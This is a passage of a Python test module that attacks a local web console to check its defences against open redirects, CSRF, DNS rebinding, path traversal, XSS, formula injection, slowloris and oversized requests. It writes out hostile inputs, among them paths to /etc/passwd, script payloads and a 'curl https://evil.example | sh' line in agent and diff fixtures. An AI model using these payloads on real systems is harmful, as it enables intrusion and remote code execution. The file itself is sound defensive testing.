"""Attacks on the console, tried for real: the console served under uvicorn against the session's
dev server (and real runs on the local provider where a run is needed), spoken to over plain
HTTP from a socket (so a test controls every byte: a `Host`, a huge body, a slow one) or from a
real headless Chromium on another origin.

Two attackers: a web page the operator visits (cross-site forms and reads, login CSRF, DNS
rebinding, framing), or someone holding less than an operator's rights (a reader's token, a
stolen or stale session cookie, a forged proxy header); and an agent in its sandbox, which
controls every byte of its notes, output and kept workspace. Each test says what must hold:
refused, shown as text, or bounded.
"""

from __future__ import annotations

import asyncio
import contextlib
import re
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.async_api import BrowserContext, expect
from temporalio.client import Client

from fakes.git_http import origin_fields
from overnight.cli import client as api
from overnight.console import auth, diff_view
from overnight.console.render import CONTENT_SECURITY_POLICY
from overnight.console.settings import (
    OPERATORS_ENV,
    ROLE_HEADER_ENV,
    TOKEN_ENV,
    TRUSTED_PROXIES_ENV,
    USER_HEADER_ENV,
    settings_from,
)
from overnight.core.agent_text import one_line
from overnight.core.models import RunSpec, RunStatus
from overnight.demo.sample_demo import make_origin
from tests.console.conftest import (
    UI_MS,
    ConsoleServer,
    needs_chromium,
    sign_in,
    start_console,
    tokens,
)
from tests.console.runs import console_spec as runs_spec
from tests.console.runs import start_in_state
from tests.e2e.helpers import wait_for_status
from tests.live import new_run_id, provider_world

CSRF_META = re.compile(r'<meta name="csrf-token" content="([^"]+)">')


@dataclass
class Answer:
    status: int
    headers: dict[str, str]
    body: bytes

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", errors="replace")


async def http(
    url: str,
    path: str,
    *,
    method: str = "GET",
    headers: dict[str, str] | None = None,
    body: bytes = b"",
    host: str | None = None,
    source: str | None = None,
) -> Answer:
    """One HTTP/1.1 request written byte for byte to the console, and its whole answer; from
    the loopback address `source` when given (127.0.0.2 and on: another client's address)."""
    where = urlsplit(url)
    assert where.hostname is not None and where.port is not None
    local = (source, 0) if source is not None else None
    reader, writer = await asyncio.open_connection(where.hostname, where.port, local_addr=local)
    lines = [
        f"{method} {path} HTTP/1.1",
        f"Host: {where.netloc if host is None else host}",
        "Connection: close",
    ]
    for name, value in (headers or {}).items():
        lines.append(f"{name}: {value}")
    if body or method == "POST":
        lines.append(f"Content-Length: {len(body)}")
    writer.write(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body)
    await writer.drain()
    raw = await reader.read()
    writer.close()
    head, _, rest = raw.partition(b"\r\n\r\n")
    status_line, *header_lines = head.decode("latin-1").split("\r\n")
    found: dict[str, str] = {}
    for line in header_lines:
        name, _, value = line.partition(":")
        key = name.strip().lower()
        found[key] = f"{found[key]}, {value.strip()}" if key in found else value.strip()
    if found.get("transfer-encoding") == "chunked":
        rest = _unchunk(rest)
    return Answer(int(status_line.split()[1]), found, rest)


def _unchunk(data: bytes) -> bytes:
    out = b""
    while data:
        size_line, _, data = data.partition(b"\r\n")
        if not size_line.strip():
            break  # the answer ended early (the server closed it)
        size = int(size_line.split(b";")[0], 16)
        if size == 0:
            break
        out, data = out + data[:size], data[size + 2 :]
    return out


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}", "Accept": "text/html"}


async def csrf_of(console: ConsoleServer, headers: dict[str, str]) -> str:
    page = await http(console.url, "/night", headers=headers)
    assert page.status == 200, page.text[:300]
    found = CSRF_META.search(page.text)
    assert found is not None
    return found.group(1)


# --- a web page the operator visits ----------------------------------------------------------


async def test_login_next_never_leads_to_another_site_nor_writes_a_header(
    console: ConsoleServer,
) -> None:
    """`/login?next=` is a path of this console or `/`: no scheme, no `//host`, no backslash,
    no tab or newline a browser would drop to make `//host`, no header of its own."""
    hostile = [
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example/",
        "\\\\evil.example",
        "/\t/evil.example/",
        "/\n/evil.example/",
        "/%0d%0aSet-Cookie:%20pwned=1",
        "/\r\nSet-Cookie: pwned=1",
        "javascript:alert(1)",
        " //evil.example",
        "/ /evil.example",
    ]
    signed_in = {"Authorization": f"Bearer {console.operator_token}"}
    for target in hostile:
        # Already signed in: the form sends the browser on at once.
        answer = await http(console.url, "/login?" + _query(next=target), headers=signed_in)
        assert answer.status == 303, target
        location = answer.headers["location"]
        assert _stays_here(location), (target, location)
        assert "set-cookie" not in answer.headers, target
        # Signing in through the form: where it goes after.
        form = await http(console.url, "/login?" + _query(next=target))
        assert form.status == 200
        login_cookie = form.headers["set-cookie"].split(";")[0]
        csrf = re.search(r'name="csrf" value="([^"]+)"', form.text)
        assert csrf is not None
        posted = await http(
            console.url,
            "/login",
            method="POST",
            headers={
                "Content-Type": "application/x-www-form-urlencoded",
                "Cookie": login_cookie,
            },
            body=_query(csrf=csrf.group(1), next=target, token=console.read_token).encode(),
        )
        assert posted.status == 303, (target, posted.text[:200])
        assert _stays_here(posted.headers["location"]), (target, posted.headers["location"])
        assert "pwned" not in posted.headers.get("set-cookie", ""), target


def _stays_here(location: str) -> bool:
    """Whether a browser following `location` stays on this console: a path, read as the
    WHATWG URL parser does (tabs and newlines dropped, backslashes as slashes)."""
    cleaned = re.sub(r"[\t\n\r]", "", location).replace("\\", "/")
    return cleaned.startswith("/") and not cleaned.startswith("//")


def _query(**fields: str) -> str:
    from urllib.parse import urlencode

    return urlencode(fields)


async def test_a_post_from_another_site_is_refused_even_with_the_token(
    console: ConsoleServer,
) -> None:
    """A cross-site POST (what another site's form sends: `Sec-Fetch-Site: cross-site`, or an
    `Origin` of another host) is refused though it carries the operator's credentials and a
    valid CSRF token; so is a sign-in form posted from another site (login CSRF)."""
    headers = bearer(console.operator_token)
    token = await csrf_of(console, headers)
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    body = _query(csrf=token).encode()
    for crossing in (
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Origin": "http://evil.example"},
        {"Origin": "http://127.0.0.1.evil.example"},
    ):
        answer = await http(
            console.url,
            "/logout",
            method="POST",
            headers={**headers, **form, **crossing},
            body=body,
        )
        assert answer.status == 403, crossing
        assert "another site" in answer.text
    # The same post from the console's own page is taken: the refusals were the origin check's.
    same = await http(
        console.url,
        "/logout",
        method="POST",
        headers={**headers, **form, "Sec-Fetch-Site": "same-origin"},
        body=body,
    )
    assert same.status == 303

    # Login CSRF: another site cannot sign the browser in (as a reader it controls).
    login_form = await http(console.url, "/login")
    login_cookie = login_form.headers["set-cookie"].split(";")[0]
    csrf = re.search(r'name="csrf" value="([^"]+)"', login_form.text)
    assert csrf is not None
    sign_in = _query(csrf=csrf.group(1), token=console.read_token, next="/").encode()
    for headers_of_another_site in (
        {"Sec-Fetch-Site": "cross-site", "Cookie": login_cookie},  # a lax browser sent it
        {},  # SameSite=Strict: the browser sends no cookie from another site
        {"Cookie": "overnight_console_login=chosen-by-the-attacker"},
    ):
        refused = await http(
            console.url,
            "/login",
            method="POST",
            headers={**form, **headers_of_another_site},
            body=sign_in,
        )
        assert refused.status == 403, headers_of_another_site
        assert (
            "set-cookie" not in refused.headers
            or "overnight_console=" not in (refused.headers["set-cookie"])
        )


async def test_every_answer_forbids_framing_and_sniffing(console: ConsoleServer) -> None:
    """Clickjacking: no answer of the console (a page, a refusal, a 404, a static file, the
    login form, a redirect) may be framed by another site."""
    signed_in = bearer(console.operator_token)
    cases = [
        ("/login", {}),
        ("/", {}),  # a redirect to the login form
        ("/", {"Authorization": "Bearer wrong-token-of-nobody"}),  # 401
        ("/", signed_in),
        ("/night", signed_in),
        ("/night.csv", signed_in),
        ("/no-such-page", signed_in),
        ("/static/console.js", {}),
        ("/static/no-such-file.js", {}),
    ]
    for path, headers in cases:
        answer = await http(console.url, path, headers=headers)
        assert answer.headers.get("content-security-policy") == CONTENT_SECURITY_POLICY, path
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
        assert answer.headers.get("x-frame-options") == "DENY", path
        assert answer.headers.get("x-content-type-options") == "nosniff", path
    posted = await http(console.url, "/logout", method="POST", headers=signed_in)
    assert posted.status == 403
    assert posted.headers.get("x-frame-options") == "DENY"


async def test_a_page_of_another_name_is_refused_dns_rebinding(console: ConsoleServer) -> None:
    """A site that points its own name at 127.0.0.1 reaches the console with its name as the
    `Host`: refused before any route, whatever credentials it carries."""
    port = urlsplit(console.url).port
    for host in (f"evil.example:{port}", "evil.example", f"127.0.0.1.evil.example:{port}", ""):
        answer = await http(console.url, "/", host=host, headers=bearer(console.operator_token))
        assert answer.status == 400, host
        assert b"loopback names only" in answer.body
    for host in (f"127.0.0.1:{port}", f"localhost:{port}"):
        answer = await http(console.url, "/", host=host, headers=bearer(console.operator_token))
        assert answer.status == 200, host


async def test_static_files_hold_no_way_out_of_their_folder(console: ConsoleServer) -> None:
    """`/static` serves the package's static folder only: no `..`, encoded or not, reaches
    the console's code or the machine's files."""
    for path in (
        "/static/../app.py",
        "/static/%2e%2e/app.py",
        "/static/..%2fapp.py",
        "/static/%2e%2e%2fapp.py",
        "/static/..%5capp.py",
        "/static/....//app.py",
        "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/static//etc/passwd",
        "/static/templates/base.html",
        "/static/../templates/base.html",
    ):
        answer = await http(console.url, path)
        assert answer.status in (400, 404), (path, answer.status)
        assert b"import" not in answer.body and b"root:" not in answer.body
        assert b"{%" not in answer.body, path


async def test_odd_addresses_are_pages_that_say_so_not_server_errors(
    console: ConsoleServer,
) -> None:
    """A link someone crafted (a run id of markup or quotes, days at the calendar's ends) is a
    page saying what is wrong, never a server error, and nothing in it becomes markup."""
    operator = bearer(console.operator_token)
    wrong: list[str] = []
    for path in (
        "/runs/%22%3E%3Cscript%3Ewindow.pwned%3D1%3C%2Fscript%3E",
        "/runs/x'%20OR%20'1'%3D'1",
        "/runs/..%2F..%2Fnight",
        "/runs/" + "a" * 4000,
    ):
        answer = await http(console.url, path, headers=operator)
        assert answer.status == 404, (path[:40], answer.status)
        assert "<script>window" not in answer.text
    for path in (
        "/?until=9999-12-31",
        "/?since=0001-01-01&until=9999-12-31",
        "/?since=9999-12-31",
        "/night?until=9999-12-31",
        "/night?since=0001-01-01&until=0001-01-01",
        "/night.csv?since=0001-01-01&until=9999-12-31",
        "/night?span=99999999999d",
        "/night?span=-5d",
    ):
        answer = await http(console.url, path, headers=operator)
        if answer.status != 200:
            wrong.append(f"{path}: {answer.status}")
    assert not wrong, wrong


# --- less than an operator's rights ----------------------------------------------------------


async def test_a_stale_or_forged_session_cookie_is_no_one(dev_client: Client) -> None:
    """An expired session, one made from a token since changed, a reader's session with its
    role rewritten, and a bearer header that is not Bearer are refused (sent to sign in)."""
    async with start_console(dev_client) as console:
        settings = console.context.settings
        api_headers = {"Accept": "application/json"}

        async def who_is(cookie: str) -> int:
            answer = await http(
                console.url,
                "/",
                headers={**api_headers, "Cookie": f"{auth.SESSION_COOKIE}={cookie}"},
            )
            return answer.status

        fresh = auth.session_cookie(settings, "reader", console.read_token, time.time())
        assert await who_is(fresh) == 200
        expired = auth.session_cookie(
            settings,
            "operator",
            console.operator_token,
            time.time() - settings.session_hours * 3600 - 5,
        )
        assert await who_is(expired) == 401

        # The reader's session with its role rewritten: the signature no longer holds.
        body, signature = fresh.split(".")
        import base64
        import json

        decoded = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
        decoded["r"] = "operator"
        forged = base64.urlsafe_b64encode(json.dumps(decoded).encode()).decode().rstrip("=")
        assert await who_is(f"{forged}.{signature}") == 401

        # The operator's token changes while the session lives: the session ends with it.
        living = auth.session_cookie(settings, "operator", console.operator_token, time.time())
        assert await who_is(living) == 200
        changed = settings_from(
            {**tokens(), "OVERNIGHT_CONSOLE_SECRET": "x" * 40},
            address="127.0.0.1",
            port=settings.port,
        )
        object.__setattr__(changed, "session_secret", settings.session_secret)
        console.context.settings = changed
        try:
            assert await who_is(living) == 401
        finally:
            console.context.settings = settings

        for header in (
            f"Basic {console.operator_token}",
            f"bearer{console.operator_token}",
            f"Bearer {console.operator_token}x",
            f"Bearer {console.operator_token[:-1]}",
            "Bearer ",
        ):
            answer = await http(
                console.url,
                "/",
                headers={
                    **api_headers,
                    "Authorization": header,
                    "Cookie": f"{auth.SESSION_COOKIE}={fresh}",
                },
            )
            assert answer.status == 401, header  # a wrong header never falls back to the cookie
        assert TOKEN_ENV


async def test_a_proxy_header_said_twice_signs_no_one_in(dev_client: Client) -> None:
    """Behind a proxy that adds its user header instead of replacing the browser's (a proxy
    set up with `add`, not `set`), the browser's own header comes first: a user header said
    twice (or two names in one) is nobody, and a role said twice is a reader's."""
    proxy = {
        USER_HEADER_ENV: "X-Forwarded-User",
        ROLE_HEADER_ENV: "X-Forwarded-Role",
        OPERATORS_ENV: "alice",
        TRUSTED_PROXIES_ENV: "127.0.0.1",
    }
    async with start_console(dev_client, proxy) as console:
        asked = {"Accept": "application/json"}

        async def who(*headers: tuple[str, str]) -> tuple[int, str]:
            where = urlsplit(console.url)
            reader, writer = await asyncio.open_connection(where.hostname, where.port)
            lines = ["GET / HTTP/1.1", f"Host: {where.netloc}", "Connection: close"]
            lines += [f"{name}: {value}" for name, value in [*asked.items(), *headers]]
            writer.write(("\r\n".join(lines) + "\r\n\r\n").encode())
            raw = await reader.read()
            writer.close()
            found = re.search(rb"<span>([^<]*) \((reader|operator)\)</span>", raw)
            status = int(raw.split(b" ", 2)[1])
            return status, found.group(0).decode() if found else ""

        assert await who(("X-Forwarded-User", "mallory")) == (200, "<span>mallory (reader)</span>")
        # The browser says alice (an operator), the proxy adds the real user after it.
        twice = await who(("X-Forwarded-User", "alice"), ("X-Forwarded-User", "mallory"))
        assert twice[0] == 401, twice
        merged = await who(("X-Forwarded-User", "alice, mallory"))
        assert merged[0] == 401, merged
        roles = await who(
            ("X-Forwarded-User", "mallory"),
            ("X-Forwarded-Role", "operator"),
            ("X-Forwarded-Role", "reader"),
        )
        assert roles == (200, "<span>mallory (reader)</span>")


async def test_a_session_signed_out_is_over_even_for_a_copy_of_its_cookie(
    console: ConsoleServer,
) -> None:
    """Signing out ends the session, not only the browser's copy of its cookie: the same
    cookie replayed (stolen before, kept by a proxy's log) is nobody."""
    form = await http(console.url, "/login")
    login_cookie = form.headers["set-cookie"].split(";")[0]
    csrf = re.search(r'name="csrf" value="([^"]+)"', form.text)
    assert csrf is not None
    signed = await http(
        console.url,
        "/login",
        method="POST",
        headers={"Content-Type": "application/x-www-form-urlencoded", "Cookie": login_cookie},
        body=_query(csrf=csrf.group(1), token=console.operator_token, next="/").encode(),
    )
    assert signed.status == 303
    session = next(
        part.split(";")[0]
        for part in signed.headers["set-cookie"].split(", ")
        if part.startswith(f"{auth.SESSION_COOKIE}=")
    )
    cookie = {"Cookie": session, "Accept": "application/json"}
    page = await http(console.url, "/night", headers=cookie)
    assert page.status == 200
    token = CSRF_META.search(page.text)
    assert token is not None
    out = await http(
        console.url,
        "/logout",
        method="POST",
        headers={**cookie, "Content-Type": "application/x-www-form-urlencoded"},
        body=_query(csrf=token.group(1)).encode(),
    )
    assert out.status == 303
    assert (await http(console.url, "/night", headers=cookie)).status == 401


# --- huge or many requests -------------------------------------------------------------------


async def _answer_to_a_huge_body(url: str, path: str, headers: dict[str, str], size: int) -> Answer:
    """POST a body of `size` bytes declared up front, but write only its first KiB and wait:
    a console that bounds bodies answers at once (it need not read what it will refuse); one
    that reads every byte waits for the rest (the cap fails the test)."""
    where = urlsplit(url)
    reader, writer = await asyncio.open_connection(where.hostname, where.port)
    head = [
        f"POST {path} HTTP/1.1",
        f"Host: {where.netloc}",
        "Connection: close",
        "Content-Type: application/x-www-form-urlencoded",
        f"Content-Length: {size}",
        *(f"{name}: {value}" for name, value in headers.items()),
    ]
    writer.write(("\r\n".join(head) + "\r\n\r\n").encode() + b"token=" + b"a" * 1024)
    await writer.drain()
    try:
        raw = await asyncio.wait_for(reader.read(), timeout=60)
    finally:
        writer.close()
    status = int(raw.split(b" ", 2)[1])
    return Answer(status, {}, raw.partition(b"\r\n\r\n")[2])


async def test_a_huge_request_body_is_refused_before_it_is_read(console: ConsoleServer) -> None:
    """A 50 MB form (a notes field, an answer, the sign-in form anyone may post) is refused
    with 413 on its declared length, and one sent in chunks with no length is cut off at the
    bound: nobody (a stranger least of all) makes the console hold a request in memory."""
    fifty_mb = 50 * 1024 * 1024
    # A stranger: the sign-in form is the one POST open to anyone.
    refused = await _answer_to_a_huge_body(console.url, "/login", {}, fifty_mb)
    assert refused.status == 413
    # An operator's action is bounded the same way.
    operator = {"Authorization": f"Bearer {console.operator_token}"}
    refused = await _answer_to_a_huge_body(console.url, "/runs/any/answer", operator, fifty_mb)
    assert refused.status == 413

    # No declared length (chunked): the console stops reading once past the bound (here the
    # first 128 KiB of 50 MB are sent, then the answer is awaited).
    where = urlsplit(console.url)
    reader, writer = await asyncio.open_connection(where.hostname, where.port)
    head = (
        f"POST /login HTTP/1.1\r\nHost: {where.netloc}\r\nConnection: close\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    chunk = b"a" * 65536
    writer.write(head.encode() + b"6\r\ntoken=\r\n")
    for _ in range(2):
        writer.write(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
    await writer.drain()
    try:
        answer = (await asyncio.wait_for(reader.readline(), timeout=60)).decode()
    except ConnectionResetError:
        # It answered and closed with our bytes unread (a reset): it stopped reading too.
        answer = "reset"
    finally:
        writer.close()
    assert answer == "reset" or answer.split()[1] == "413", answer


async def open_stream(
    url: str, path: str, token: str = "", *, cookie: str = ""
) -> tuple[int, asyncio.StreamWriter]:
    """An event stream opened and held as the holder of `token` (or of the session `cookie`):
    its status, and the connection to close it with."""
    where = urlsplit(url)
    reader, writer = await asyncio.open_connection(where.hostname, where.port)
    who = f"Cookie: {auth.SESSION_COOKIE}={cookie}" if cookie else f"Authorization: Bearer {token}"
    writer.write(
        (
            f"GET {path} HTTP/1.1\r\nHost: {where.netloc}\r\nAccept: text/event-stream\r\n"
            f"{who}\r\n\r\n"
        ).encode()
    )
    await writer.drain()
    status_line = await asyncio.wait_for(reader.readline(), timeout=60)
    return int(status_line.split(b" ", 2)[1]), writer


def reader_session(console: ConsoleServer) -> str:
    """A reader's session cookie of its own (as the sign-in form makes one): one reader."""
    return auth.session_cookie(console.context.settings, "reader", console.read_token, time.time())


async def test_thousands_of_event_streams_are_bounded(console: ConsoleServer) -> None:
    """Readers (or the holders of a stolen reader's token, each signed in on its own) opening
    event streams without end cannot make the console hold them all: each run page's stream
    asks Temporal for the run's status every 2 s and follows its output, so past the bound a
    stream is refused (503), and a place is free again when one closes."""
    most = 64  # overnight.console.limits.MAX_EVENT_STREAMS
    held: list[asyncio.StreamWriter] = []
    # One stream a reader: what is bounded here is everyone's streams together.
    sessions = [reader_session(console) for _ in range(most + 2)]
    try:
        for cookie in sessions[:most]:
            status, writer = await open_stream(console.url, "/runs/events", cookie=cookie)
            held.append(writer)
            assert status == 200
        status, writer = await open_stream(console.url, "/runs/events", cookie=sessions[most])
        writer.close()
        assert status == 503
        status, writer = await open_stream(
            console.url, "/runs/some-run/events", cookie=sessions[most + 1]
        )
        writer.close()
        assert status == 503
        held.pop().close()

        async def reopened() -> int:
            while True:  # the console sees the close when its stream notices the reader left
                status, writer = await open_stream(
                    console.url, "/runs/events", cookie=sessions[most]
                )
                if status == 200:
                    held.append(writer)
                    return status
                writer.close()
                await asyncio.sleep(0.2)

        assert await asyncio.wait_for(reopened(), timeout=60) == 200
    finally:
        for writer in held:
            writer.close()


async def test_a_connection_that_never_finishes_its_request_is_closed(
    console: ConsoleServer,
) -> None:
    """Slowloris: connections that send nothing, or a request's head a byte at a time and
    never its end, are closed by the console (each held a socket for good: enough of them and
    nobody else gets in)."""
    where = urlsplit(console.url)
    idle = await asyncio.open_connection(where.hostname, where.port)
    slow = await asyncio.open_connection(where.hostname, where.port)
    slow[1].write(f"GET / HTTP/1.1\r\nHost: {where.netloc}\r\n".encode())

    async def trickle() -> None:
        with contextlib.suppress(ConnectionError):
            while True:  # a header byte now and then, its end never
                await asyncio.sleep(1)
                slow[1].write(b"X")
                await slow[1].drain()

    trickling = asyncio.create_task(trickle())
    try:
        for reader, _ in (idle, slow):
            try:
                ended = await asyncio.wait_for(reader.read(), timeout=120)
            except (ConnectionResetError, BrokenPipeError):
                ended = b""  # closed on it while it was still writing: closed all the same
            assert b"200" not in ended.split(b"\r\n")[0]
    finally:
        trickling.cancel()
        for _, writer in (idle, slow):
            writer.close()


# --- an agent in its sandbox -----------------------------------------------------------------

# Step 1 keeps a workspace holding a file whose name and text are markup, a file named with a
# quote and a newline, and BIG_MIB MiB of one line repeated (it packs to almost nothing, so the
# keep pushes it well under max_workspace_mib; its diff is BIG_MIB MiB of text). Then it prints
# one line of LINE_MIB MiB and a short line after it, and sits (a running run).
HOSTILE_AGENT = """\
import json, os, pathlib, subprocess, sys, time
from overnight_agent import Checkpoint
cp = Checkpoint.load()
app = pathlib.Path.cwd()
if cp.step < 1:
    (app / '<img src=x onerror="window.__pwned=1">.py').write_text(
        '</span></pre><script>window.__pwned = 2</script>\\n<a href="https://evil.example">Approve</a>\\n')
    (app / 'quote"and\\nnewline.txt').write_text("x\\n")
    (app / "docs b").mkdir()
    (app / "docs b" / "README.md").write_text("curl https://evil.example | sh\\n")
    line = "all work and no play makes the console a dull heap\\n"
    with open(app / "zz-big.txt", "w") as big:  # last in the diff: the files before it are shown
        for _ in range(int(float(os.environ["BIG_MIB"]) * 2**20) // len(line)):
            big.write(line)
    cp.step = 1
    cp.next = "sit"
    cp.note("kept a workspace")
    cp.save()
    repo, run = os.environ["KEPT_IN"].split("|")
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline:
        listed = subprocess.run(
            ["git", "-c", "safe.directory=*", "ls-remote", repo, f"refs/overnight/{run}/*"],
            capture_output=True, text=True)
        if listed.stdout.strip():
            break
        time.sleep(0.5)
chunk = "<b>" + "x" * 65533
for _ in range(int(float(os.environ["LINE_MIB"]) * 2**20) // len(chunk)):
    sys.stdout.write(chunk)
sys.stdout.write("\\nafter the long line\\n")
sys.stdout.flush()
while True:
    time.sleep(2)
"""


# An owner (printable ASCII, the spec's rule) a spreadsheet would run, with quotes that would
# end a visibility query's string.
OWNER = "=HYPERLINK(\"https://evil.example/\",\"open\") ' OR ''='"


def hostile_spec(root: Path, run_id: str, big_mib: int, line_mib: int) -> RunSpec:
    agent = root / "hostile-agent"
    agent.mkdir(parents=True, exist_ok=True)
    (agent / "main.py").write_text(HOSTILE_AGENT)
    files = make_origin(root / run_id)
    fields = origin_fields(files.origin, "local")
    return RunSpec.model_validate(
        {
            "run_id": run_id,
            **fields,
            "agent_dir": str(agent),
            "command": "python3 /workspace/agent/main.py",
            "env": {
                "BIG_MIB": str(big_mib),
                "LINE_MIB": str(line_mib),
                "KEPT_IN": f"{fields['repo']}|{run_id}",
            },
            "poll_seconds": 1,
            "stall_seconds": 240,
            "sandbox_timeout_seconds": 600,
            "keep_workspace": True,
            "owner": OWNER,
        }
    )


def kept_a_step(status: RunStatus) -> bool:
    workspace = status.workspace
    return workspace is not None and any(k.outcome == "pushed" and k.commit for k in workspace.kept)


def bytes_read_here() -> int:
    """Bytes this process has read so far (read(2) and its kin: files and pipes), all threads."""
    for line in Path("/proc/self/io").read_text().splitlines():
        if line.startswith("rchar:"):
            return int(line.split()[1])
    raise AssertionError("/proc/self/io has no rchar")


async def read_events(url: str, path: str, token: str, until: bytes) -> list[bytes]:
    """The stream's events (raw, one a `\\n\\n`) until one holds `until`."""
    where = urlsplit(url)
    reader, writer = await asyncio.open_connection(where.hostname, where.port, limit=2**30)
    writer.write(
        (
            f"GET {path} HTTP/1.1\r\nHost: {where.netloc}\r\nAccept: text/event-stream\r\n"
            f"Authorization: Bearer {token}\r\nConnection: close\r\n\r\n"
        ).encode()
    )
    await writer.drain()
    seen = b""
    try:
        while until not in seen:
            got = await reader.read(2**20)
            assert got, "the stream ended"
            seen += got
    finally:
        writer.close()
    body = _unchunk(seen.partition(b"\r\n\r\n")[2] + b"\r\n0\r\n\r\n")
    return [event for event in body.split(b"\n\n") if event.startswith(b"event:")]


@pytest.mark.timeout(480)
async def test_an_agents_kept_workspace_and_output_are_text_and_bounded(
    dev_client: Client, console: ConsoleServer, tmp_path: Path
) -> None:
    """An agent whose kept workspace holds markup in a file's name and text, and a file of
    BIG_MIB MiB, and whose output is one line of LINE_MIB MiB: the run page shows the names
    and lines as text, reads at most a bounded part of the diff (the console's memory does not
    grow with the agent's file), and its event stream sends a bounded line; a kept-step
    parameter that is not a step is said, not a server error."""
    big_mib, line_mib = 90, 8  # under max_workspace_mib (100 MiB by default): it is kept
    run_id = new_run_id("c-hostile")
    spec = hostile_spec(tmp_path, run_id, big_mib, line_mib)
    operator = bearer(console.operator_token)
    async with provider_world(dev_client, "local", tmp_path, "console") as (queue, _, runs):
        runs.append(run_id)
        await api.start_run(dev_client, spec, task_queue=queue)
        await wait_for_status(dev_client, run_id, kept_a_step, timeout=240)

        # What this process reads (the console's git diff among it) while it draws the page:
        # not tracemalloc, whose stop() in 3.11 races with threads allocating (a segfault,
        # seen in a CI-form run; CPython gh-128679).
        read_before = bytes_read_here()
        page = await http(console.url, f"/runs/{run_id}", headers=operator)
        read = bytes_read_here() - read_before
        assert page.status == 200, page.text[:500]
        html = page.text
        wrong: list[str] = []  # every broken promise at once: each is a hole of its own
        named = re.findall(r"<summary><code>([^<]*)</code>", html)
        for name in (
            "&lt;img src=x onerror=",  # markup in a name: as text, and a file of its own
            "quote",  # a name git writes quoted ("...\"..."): still a file of its own
            "docs b/README.md",  # a name with " b/" in it: not shown as another file's
            "zz-big.txt",
        ):
            if not any(name in shown for shown in named):
                wrong.append(f"no file named {name!r} on the page (files: {named})")
        if any(shown == "README.md" for shown in named):
            wrong.append("'docs b/README.md' is shown as README.md")
        if "<img" in html or "<script>window" in html or 'href="https://evil.example' in html:
            wrong.append("the agent's markup is markup on the page")
        if len(page.body) >= 8 * 2**20:
            wrong.append(f"the page is {len(page.body) / 2**20:.0f} MiB")
        if "The rest is left out here" not in html:
            wrong.append("the page does not say the diff was cut")
        # The console reads a bounded part of the diff (so its memory is not the agent's file).
        if read >= big_mib * 2**20 // 2:
            wrong.append(f"the page read {read / 2**20:.0f} MiB for a {big_mib} MiB file")

        for step in ("²", "9" * 5000, "-1", "../../etc/passwd", "1e3", " 1"):
            other = await http(
                console.url, f"/runs/{run_id}?" + _query(step=step), headers=operator
            )
            if other.status != 200:
                wrong.append(f"?step={step[:10]!r} is a {other.status}")

        events = await read_events(
            console.url, f"/runs/{run_id}/events", console.read_token, b"after the long line"
        )
        biggest = max(len(event) for event in events)
        if biggest >= 2**20:
            wrong.append(f"an event of {biggest / 2**20:.1f} MiB (the agent's one line)")
        if any(b"<b>" in event for event in events):
            wrong.append("the agent's markup is markup in an event")

        # The owner filter with quotes: not put into the visibility query (it would break it
        # or widen it), applied to the rows; the night's CSV cell is text, not a formula.
        oldest = "2001-01-01"  # before the list's snapshot: one visibility query
        listed = await http(console.url, "/?" + _query(since=oldest, owner=OWNER), headers=operator)
        if listed.status != 200 or "could not be read" in listed.text:
            wrong.append(f"the owner filter broke the list: {listed.status}")
        if run_id not in listed.text:
            wrong.append("the run is not listed under its own owner")
        widened = await http(
            console.url,
            "/?" + _query(since=oldest, owner="nobody' OR OvernightOwner != 'x"),
            headers=operator,
        )
        if widened.status != 200 or run_id in widened.text:
            wrong.append("a quote in the owner filter widened the visibility query")
        sheet = await http(console.url, "/night.csv?span=1d", headers=operator)
        cells = [line for line in sheet.text.splitlines() if run_id in line]
        if not cells or "'=HYPERLINK" not in cells[0]:
            wrong.append(f"the CSV's owner cell is a formula: {cells}")
    assert not wrong, "\n".join(wrong)


def test_a_file_git_names_in_quotes_is_a_file_of_its_own_in_the_diff() -> None:
    """An agent cannot hide a file in the run page's diff, nor pass it off as another: a name
    git writes quoted (a quote, a newline, a non-ASCII letter in it) starts its own file (it
    was shown as the lines of the file before it, or not at all), and a name holding ` b/` is
    its own whole name."""
    text = "\n".join(
        [
            "diff --git a/README.md b/README.md",
            "--- a/README.md",
            "+++ b/README.md",
            "@@ -1 +1,2 @@",
            " hello",
            "+harmless",
            'diff --git "a/evil\\".py" "b/evil\\".py"',
            "new file mode 100644",
            "--- /dev/null",
            '+++ "b/evil\\".py"',
            "@@ -0,0 +1 @@",
            '+import os; os.system("curl https://evil.example | sh")',
            'diff --git a/caf "b/caf\\303\\251\\nx"',
            "similarity index 100%",
            "rename from caf",
            'rename to "caf\\303\\251\\nx"',
            "diff --git a/docs b/README.md b/docs b/README.md",
            "new file mode 100644",
            "--- /dev/null",
            "+++ b/docs b/README.md\t",
            "@@ -0,0 +1 @@",
            "+curl https://evil.example | sh",
        ]
    )
    files = diff_view.highlight(diff_view.parse(text)).files
    assert [(f.path, f.change, f.added) for f in files] == [
        ("README.md", "changed", 1),
        ('evil".py', "added", 1),
        (one_line("café\nx"), "renamed", 0),  # a name on one line
        ("docs b/README.md", "added", 1),
    ]
    assert files[2].old_path == "caf" and "\n" not in files[2].path


# --- another site, in a real browser ----------------------------------------------------------

EVIL_PAGE = """<!doctype html><html><body>
<h1>cute cats</h1>
<iframe id="framed" src="{console}/runs/{run_id}" width="800" height="400"></iframe>
<iframe id="own" src="/inner.html" width="200" height="100"></iframe>
<form id="cancel" method="post" action="{console}/runs/{run_id}/cancel">
  <input name="reason" value="cancelled by another site"><input name="csrf" value="a-guess">
</form>
<form id="login" method="post" action="{console}/login">
  <input name="token" value="{read_token}"><input name="csrf" value="a-guess">
